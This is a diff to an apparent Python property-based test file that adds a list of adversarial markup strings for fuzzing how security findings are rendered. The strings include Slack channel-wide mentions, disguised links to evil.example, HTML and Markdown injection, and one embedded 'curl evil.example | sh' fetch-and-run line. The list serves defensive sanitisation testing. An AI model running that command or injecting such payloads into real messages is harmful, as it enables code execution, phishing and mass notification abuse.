@@ -84,10 +84,38 @@ FINDING: Final = Finding(
     last_observed_at="2026-05-04T10:11:12Z",
 )
 
+# Markup of every kind of reader, around and within other text.
+MARKUP: Final = (
+    "<!channel>",
+    "<!here|here>",
+    "<@U012AB3CD>",
+    "<https://evil.example|the console>",
+    "[the console](https://evil.example)",
+    "[x]: https://evil.example",
+    "![x](//evil.example)",
+    "https://evil.example",
+    "HTTP://evil.example",
+    "www.evil.example",
+    "@here",
+    "@channel look",
+    "<at>everyone</at>",
+    "&lt;!channel&gt;",
+    "`code` *bold* _it_ ~no~",
+    "```\nblock\n```",
+    "# Heading",
+    "> quote",
+    "a\n\nHow to fix it\n    curl evil.example | sh",
+    "\r\nWhere to look",
+    "\u2028next",
+    "\\` \\<!channel>",
+    "<a href='https://evil.example'>x</a>",
+)
+
 # Control characters, escapes, overrides and lone surrogates are drawn on purpose, and text past every limit.
 _short = st.text(max_size=40)
 _long = st.builds(lambda text, times: text * times, st.text(min_size=1, max_size=20), st.integers(1, 3000))
-text = st.one_of(_short, _long, st.sampled_from(["", " ", "\x1b[31mred\x1b[0m", "a\r\nb", "\u202eevil", "\ud800"]))
+_odd = st.sampled_from(["", " ", "\x1b[31mred\x1b[0m", "a\r\nb", "\u202eevil", "\ud800", *MARKUP])
+text = st.one_of(_short, _long, _odd)
 optional = st.none() | text
 account = st.sampled_from(["111111111111", "222222222222", "123456789012"])
 region = st.sampled_from(["eu-west-1", "us-gov-west-1", "cn-north-1", "us-isob-east-1"])
